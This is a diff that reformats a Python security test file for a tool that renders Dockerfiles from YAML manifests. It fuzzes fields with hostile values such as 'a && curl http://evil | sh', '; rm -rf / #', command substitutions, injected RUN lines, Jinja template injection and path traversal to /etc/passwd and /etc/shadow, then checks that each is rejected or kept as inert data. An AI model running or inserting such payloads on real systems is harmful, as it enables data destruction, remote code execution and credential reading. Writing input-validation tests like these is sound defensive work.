@@ -7,6 +7,7 @@ line has exactly as many unquoted shell operators and command substitutions. Pat
 never make the tool open a file outside manifests/ (an audit hook records every open).
 INPUTS_TRIED counts the values tried (printed at the end of the session with -s).
 """
+
 from __future__ import annotations
 
 import hashlib
@@ -29,18 +30,62 @@ from .helpers import MANIFESTS, assert_one_line_error, copy_manifests, run_cli
 
 PROFILE = "mtp-cp-recompute"
 EXAMPLES = int(os.environ.get("MTP_FUZZ_EXAMPLES", "120"))
-FUZZ = settings(max_examples=EXAMPLES, deadline=None,
-                derandomize="MTP_FUZZ_EXAMPLES" not in os.environ,
-                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+FUZZ = settings(
+    max_examples=EXAMPLES,
+    deadline=None,
+    derandomize="MTP_FUZZ_EXAMPLES" not in os.environ,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 
 HOSTILE = [
-    "; rm -rf / #", "$(id)", "`id`", "a && curl http://evil | sh", "x || true", "a|b", "a>/etc/passwd",
-    "a\nRUN curl evil", "a\r\nRUN id", "x \\\nRUN id", "\nFROM scratch", "a'b", 'a"b', "a\\", "$HOME",
-    "${IFS}id", "{{ 7*7 }}", "{% for x in range(3) %}X{% endfor %}", "{{ config }}", "{# c #}",
-    "{% raw %}", "../../etc/passwd", "/etc/shadow", "..", "patches/../../x.patch", "-rf", "--index-url=http://x",
-    "https://pypi.org/simple;id", "https://x/$(id)", "https://x/`id`", "https://x/a b", "https://x/a\nRUN id",
-    "git://127.0.0.1/x;id", "file:///etc/passwd", "3.12; id", "3.12\nRUN id", "main;id", "main$(id)",
-    "0.1;id", "0.1 ; id", "torch==1;id", "a,b;id", "x\x00y", "\u2028RUN id", "#", "a # b", "%", "*",
+    "; rm -rf / #",
+    "$(id)",
+    "`id`",
+    "a && curl http://evil | sh",
+    "x || true",
+    "a|b",
+    "a>/etc/passwd",
+    "a\nRUN curl evil",
+    "a\r\nRUN id",
+    "x \\\nRUN id",
+    "\nFROM scratch",
+    "a'b",
+    'a"b',
+    "a\\",
+    "$HOME",
+    "${IFS}id",
+    "{{ 7*7 }}",
+    "{% for x in range(3) %}X{% endfor %}",
+    "{{ config }}",
+    "{# c #}",
+    "{% raw %}",
+    "../../etc/passwd",
+    "/etc/shadow",
+    "..",
+    "patches/../../x.patch",
+    "-rf",
+    "--index-url=http://x",
+    "https://pypi.org/simple;id",
+    "https://x/$(id)",
+    "https://x/`id`",
+    "https://x/a b",
+    "https://x/a\nRUN id",
+    "git://127.0.0.1/x;id",
+    "file:///etc/passwd",
+    "3.12; id",
+    "3.12\nRUN id",
+    "main;id",
+    "main$(id)",
+    "0.1;id",
+    "0.1 ; id",
+    "torch==1;id",
+    "a,b;id",
+    "x\x00y",
+    "\u2028RUN id",
+    "#",
+    "a # b",
+    "%",
+    "*",
 ]
 TRIED = Counter()
 
@@ -105,6 +150,7 @@ _LOCKED = plan_for(_SHIPPED, PROFILE, None).locked
 
 def _plan(m, sets):
     import dataclasses
+
     return dataclasses.replace(plan_for(m, PROFILE, sets), locked=_LOCKED)
 
 
@@ -134,7 +180,18 @@ def _outcome(root: Path, sets: list[str] | None, baseline: list, label: str) -> 
 
 # ------------------------------------------------------------------ --set
 SET_FIELDS = {
-    "megatron-lm": ["commit", "ref", "repo", "version", "subdir", "index", "package", "layer", "extras", "source"],
+    "megatron-lm": [
+        "commit",
+        "ref",
+        "repo",
+        "version",
+        "subdir",
+        "index",
+        "package",
+        "layer",
+        "extras",
+        "source",
+    ],
     "sglang": ["version", "index", "package", "extras", "strip", "patches", "source", "layer"],
     "verl": ["repo", "ref", "subdir", "extras", "note"],
     "torch": ["version", "index", "extras", "layer"],
@@ -148,8 +205,10 @@ def test_hostile_set_values(baseline, target):
 
 
 @FUZZ
-@given(target=st.sampled_from([f"{c}.{f}" for c, fs in SET_FIELDS.items() for f in fs]),
-       value=st.text(alphabet=st.sampled_from(list(";&|<>$`'\"\\\n\r{}%#()/. -_aZ09=,*")), max_size=40))
+@given(
+    target=st.sampled_from([f"{c}.{f}" for c, fs in SET_FIELDS.items() for f in fs]),
+    value=st.text(alphabet=st.sampled_from(list(";&|<>$`'\"\\\n\r{}%#()/. -_aZ09=,*")), max_size=40),
+)
 def test_generated_set_values(baseline, target, value):
     _outcome(MANIFESTS, [f"{target}={value}"], baseline, "--set (generated)")
 
@@ -174,16 +233,30 @@ def _edit(path: Path, keys: tuple, value) -> None:
 
 
 CATALOGUE_KEYS = [
-    ("platform", "python"), ("platform", "cuda"), ("platform", "base_image", "name"),
-    ("platform", "base_image", "tag"), ("platform", "base_image", "digest"), ("indexes", "pypi"),
-    ("components", "megatron-lm", "repo"), ("components", "megatron-lm", "ref"),
-    ("components", "megatron-lm", "subdir"), ("components", "verl", "note"),
-    ("components", "sglang", "version"), ("components", "sglang", "package"),
-    ("packages", "torch", "version"), ("packages", "torch", "extras"),
+    ("platform", "python"),
+    ("platform", "cuda"),
+    ("platform", "base_image", "name"),
+    ("platform", "base_image", "tag"),
+    ("platform", "base_image", "digest"),
+    ("indexes", "pypi"),
+    ("components", "megatron-lm", "repo"),
+    ("components", "megatron-lm", "ref"),
+    ("components", "megatron-lm", "subdir"),
+    ("components", "verl", "note"),
+    ("components", "sglang", "version"),
+    ("components", "sglang", "package"),
+    ("packages", "torch", "version"),
+    ("packages", "torch", "extras"),
 ]
-PROFILE_KEYS = [("summary",), ("choose_when",), ("stack", "overrides", "megatron-lm", "ref"),
-                ("stack", "overrides", "megatron-lm", "repo"), ("stack", "overrides", "verl", "subdir"),
-                ("stack", "overrides", "torch", "version"), ("stack", "overrides", "sglang", "version")]
+PROFILE_KEYS = [
+    ("summary",),
+    ("choose_when",),
+    ("stack", "overrides", "megatron-lm", "ref"),
+    ("stack", "overrides", "megatron-lm", "repo"),
+    ("stack", "overrides", "verl", "subdir"),
+    ("stack", "overrides", "torch", "version"),
+    ("stack", "overrides", "sglang", "version"),
+]
 
 
 def _wrap(keys: tuple, value):
@@ -208,12 +281,13 @@ def test_hostile_profile_values(scratch, baseline, keys):
 
 def test_jinja_in_free_text_is_data_not_template(scratch):
     root = _fresh(scratch)
-    summary = "{{ 7*7 }} {% if true %}IF{% endif %} {# c #} $(id) `id` \"q\""
+    summary = '{{ 7*7 }} {% if true %}IF{% endif %} {# c #} $(id) `id` "q"'
     _edit(root / "profiles" / f"{PROFILE}.yaml", ("summary",), summary)
     TRIED["profile"] += 1
     m = manifest.load(root)
     rendered = render(plan_for(m, PROFILE, None), m.root)
     import json
+
     assert json.loads(rendered.files["mtp/version.json"])["summary"] == summary
     desc = [t for kw, t in _instructions(rendered.dockerfile) if kw == "LABEL"][0]
     assert "{{ 7*7 }}" in desc and "49" not in desc and "\\$(id)" in desc
@@ -234,6 +308,7 @@ def test_hostile_patch_reference_values(scratch, baseline, key):
 # ------------------------------------------------------------------ patch paths
 class _Opens:
     """Records every file the process opens while active (sys.addaudithook cannot be removed)."""
+
     active = False
     seen: list[str] = []
 
@@ -250,10 +325,19 @@ def _patch_cases(outside: Path, root: Path) -> list[str]:
     link = root / "patches" / "sglang" / "link.patch"
     link.parent.mkdir(parents=True, exist_ok=True)
     link.symlink_to(outside)
-    return [str(outside), "../outside.patch", "patches/../../outside.patch", "patches/../../../outside.patch",
-            f"patches/{'../' * 12}{str(outside).lstrip('/')}", "patches/sglang/link.patch",
-            "/etc/passwd", "patches/sglang/../../../outside.patch", "patches//sglang/link.patch",
-            "patches/./sglang/link.patch", f"patches/sglang/{'x' * 10}/../link.patch"]
+    return [
+        str(outside),
+        "../outside.patch",
+        "patches/../../outside.patch",
+        "patches/../../../outside.patch",
+        f"patches/{'../' * 12}{str(outside).lstrip('/')}",
+        "patches/sglang/link.patch",
+        "/etc/passwd",
+        "patches/sglang/../../../outside.patch",
+        "patches//sglang/link.patch",
+        "patches/./sglang/link.patch",
+        f"patches/sglang/{'x' * 10}/../link.patch",
+    ]
 
 
 @pytest.mark.parametrize("where", ["components.yaml", "profile override"])
@@ -278,14 +362,19 @@ def test_patch_paths_never_read_outside_manifests(scratch, baseline, where):
             _Opens.active = False
         assert outcome == "rejected", path
         real = str(outside.resolve())
-        assert not [p for p in _Opens.seen if os.path.realpath(p) == real or p.endswith("passwd")], _Opens.seen
+        assert not [p for p in _Opens.seen if os.path.realpath(p) == real or p.endswith("passwd")], (
+            _Opens.seen
+        )
 
 
 def test_patch_path_via_cli_is_one_line_exit_2(tmp_path):
     root = copy_manifests(tmp_path)
     (tmp_path / "outside.patch").write_text("x\n")
-    _edit(root / "components.yaml", ("components", "sglang", "patches"),
-          [{"file": "patches/../../outside.patch", "sha256": "0" * 64, "url": "https://example.org/p"}])
+    _edit(
+        root / "components.yaml",
+        ("components", "sglang", "patches"),
+        [{"file": "patches/../../outside.patch", "sha256": "0" * 64, "url": "https://example.org/p"}],
+    )
     out = tmp_path / "out"
     proc = run_cli("--manifests", str(root), "render", "--profile", PROFILE, "--out", str(out))
     TRIED["CLI render"] += 1
